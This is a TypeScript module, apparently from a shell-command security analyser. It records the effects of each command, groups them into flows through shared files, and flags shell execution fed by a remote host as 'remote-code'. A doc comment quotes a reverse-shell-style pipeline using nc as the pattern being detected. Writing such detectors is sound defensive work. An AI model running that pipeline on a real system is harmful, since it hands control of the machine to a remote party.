import type { Effect, Flag } from '../../core/effect.ts';
import type { Place } from '../../core/event.ts';
import type { Context, Trace } from './model.ts';

/** Commands and words looked at in one call; a longer one is `unparsed`. */
const maxSteps = 4_000;
const maxEffects = 500;

type Draft = Omit<Effect, 'flow'> & { readonly flow: number };

const movesFiles: ReadonlySet<string> = new Set(['file', 'directory', 'agent-config']);

/** A fresh, empty trace for one call. `field` is the input field the command stands in, `length` that of its text. */
export function createTrace(field: string, place: Place, length: number): Trace {
  const drafts: Draft[] = [];
  const parents: number[] = [];
  let steps = 0;

  const rootOf = (flow: number): number => {
    let at = flow;
    while (parents[at] !== undefined && parents[at] !== at) at = parents[at] ?? at;
    return at;
  };

  const trace: Trace = {
    place,
    programs: [],
    opaque: new Set(),
    secrets: [],
    downloaded: new Map(),
    written: new Map(),
    unparsed: false,
    add({ arg: _arg, ...effect }, by, { start, end }, ctx) {
      if (drafts.length >= maxEffects) return trace.fail('more effects than are listed');
      const there = elsewhere(effect, ctx);
      drafts.push({
        ...there,
        flags: mergeFlags(effect.flags, ctx.flags),
        by,
        // An unclosed heredoc ends beyond the text.
        span: { field, start: Math.min(start, length), end: Math.min(end, length) },
        flow: ctx.flow,
      });
    },
    spend(count = 1) {
      steps += count;
      if (steps <= maxSteps) return true;
      trace.fail('too long to be read whole');
      return false;
    },
    newFlow: () => parents.push(parents.length) - 1,
    join(a, b) {
      parents[rootOf(a)] = rootOf(b);
    },
    fail(why) {
      trace.unparsed = true;
      trace.opaque.add(why);
    },
    effects() {
      joinByFiles(drafts, trace);
      markRemoteInput(drafts, rootOf);
      return numbered(drafts, rootOf);
    },
  };
  return trace;
}

/** What runs in a container or on another host touches that, not this machine. */
function elsewhere(effect: Omit<Effect, 'by' | 'span' | 'flow'>, ctx: Context): Omit<Effect, 'by' | 'span' | 'flow'> {
  if (ctx.where === undefined || effect.resource.kind === 'host') return effect;
  const kept = effect.zone === 'credential-store' || effect.zone === 'production';
  return {
    ...effect,
    resource: { kind: effect.resource.kind, name: `${ctx.where.name}:${effect.resource.name}` },
    zone: kept ? effect.zone : ctx.where.zone,
  };
}

function mergeFlags(own: readonly Flag[], inherited: readonly Flag[]): readonly Flag[] {
  return inherited.length === 0 ? own : [...new Set([...own, ...inherited])];
}

/** What was written to a file and is read from it later belongs to one flow. */
function joinByFiles(drafts: readonly Draft[], trace: Trace): void {
  const written = new Map<string, number>();
  for (const { verb, resource, flow } of drafts) {
    if (!movesFiles.has(resource.kind) || resource.name === '') continue;
    if (verb === 'write') written.set(resource.name, flow);
    else if (verb === 'read' || verb === 'execute') {
      const from = written.get(resource.name);
      if (from !== undefined) trace.join(from, flow);
    }
  }
}

/** A shell that takes its orders from a pipe into which another host talks: `cat f | sh | nc host 1 > f`. */
function markRemoteInput(drafts: Draft[], rootOf: (flow: number) => number): void {
  const talks = new Set<number>();
  for (const { verb, zone, resource, flow } of drafts) {
    if (verb === 'receive' && resource.kind === 'host' && zone !== 'this-host') talks.add(rootOf(flow));
  }
  if (talks.size === 0) return;
  drafts.forEach((draft, i) => {
    const { verb, flags, flow } = draft;
    if (verb !== 'execute' || !flags.includes('opaque') || !flags.includes('dynamic') || !talks.has(rootOf(flow)))
      return;
    if (!flags.includes('remote-code')) drafts[i] = { ...draft, flags: [...flags, 'remote-code'] };
  });
}

/** Flows counted from 0 in order; an effect alone in its flow carries none. Exact repeats are dropped. */
function numbered(drafts: readonly Draft[], rootOf: (flow: number) => number): readonly Effect[] {
  const sizes = new Map<number, number>();
  const kept: Draft[] = [];
  const seen = new Set<string>();
  for (const draft of drafts) {
    const root = rootOf(draft.flow);
    const { verb, resource, zone, flags, by, span } = draft;
    const key = `${verb} ${resource.kind} ${resource.name} ${zone} ${flags.join()} ${by} ${span?.start} ${span?.end} ${root}`;
    if (seen.has(key)) continue;
    seen.add(key);
    kept.push(draft);
    sizes.set(root, (sizes.get(root) ?? 0) + 1);
  }
  const numbers = new Map<number, number>();
  return kept.map(({ flow, ...effect }) => {
    const root = rootOf(flow);
    if ((sizes.get(root) ?? 0) < 2) return effect;
    const number = numbers.get(root) ?? numbers.size;
    numbers.set(root, number);
    return { ...effect, flow: number };
  });
}
